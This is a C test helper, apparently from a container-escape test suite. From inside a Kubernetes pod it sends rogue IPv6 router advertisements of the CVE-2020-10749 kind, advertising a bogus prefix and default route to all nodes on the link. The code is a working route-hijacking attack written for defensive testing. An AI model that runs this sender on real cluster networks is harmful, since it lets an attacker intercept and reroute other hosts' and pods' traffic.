/* A hostile pod's IPv6 router advertisement (the CVE-2020-10749 class), for the escape suite
 * (tests/e2e/attacks_root_test.sh): from inside a pod, with the CAP_NET_RAW every container
 * has by default, advertise the prefix 2001:db8:bad::/64 (autonomous, on-link) and a default
 * route to every node of the link (ff02::1), every 200 ms for SECONDS seconds (the pod's
 * link-local address is tentative for about a second after eth0 comes up). A host or pod that
 * accepts router advertisements on the pod network then gets an address and routes from it.
 *
 * usage: ra_sender IFACE SECONDS        Static, so that it runs in the busybox image. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: ra_sender IFACE SECONDS\n");
    return 2;
  }
  unsigned ifindex = if_nametoindex(argv[1]);
  if (ifindex == 0) {
    perror("if_nametoindex");
    return 1;
  }
  int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6);
  if (fd < 0) {
    perror("socket");
    return 1;
  }
  int hops = 255;
  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops);
  setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof hops);
  setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, &ifindex, sizeof ifindex);

  unsigned char pkt[sizeof(struct nd_router_advert) + sizeof(struct nd_opt_prefix_info)];
  memset(pkt, 0, sizeof pkt);
  struct nd_router_advert *ra = (struct nd_router_advert *)pkt;
  ra->nd_ra_type = ND_ROUTER_ADVERT;
  ra->nd_ra_curhoplimit = 64;
  ra->nd_ra_router_lifetime = htons(1800); /* a default route via the sender */
  struct nd_opt_prefix_info *pi = (struct nd_opt_prefix_info *)(pkt + sizeof *ra);
  pi->nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  pi->nd_opt_pi_len = 4;
  pi->nd_opt_pi_prefix_len = 64;
  pi->nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  pi->nd_opt_pi_valid_time = htonl(86400);
  pi->nd_opt_pi_preferred_time = htonl(14400);
  inet_pton(AF_INET6, "2001:db8:bad::", &pi->nd_opt_pi_prefix);

  struct sockaddr_in6 to;
  memset(&to, 0, sizeof to);
  to.sin6_family = AF_INET6;
  to.sin6_scope_id = ifindex;
  inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
  int sent = 0;
  for (int i = 0; i < atoi(argv[2]) * 5; ++i) {
    if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof pkt) ++sent;
    struct timespec t = {0, 200 * 1000 * 1000};
    nanosleep(&t, NULL);
  }
  printf("sent %d\n", sent);
  return sent > 0 ? 0 : 1;
}
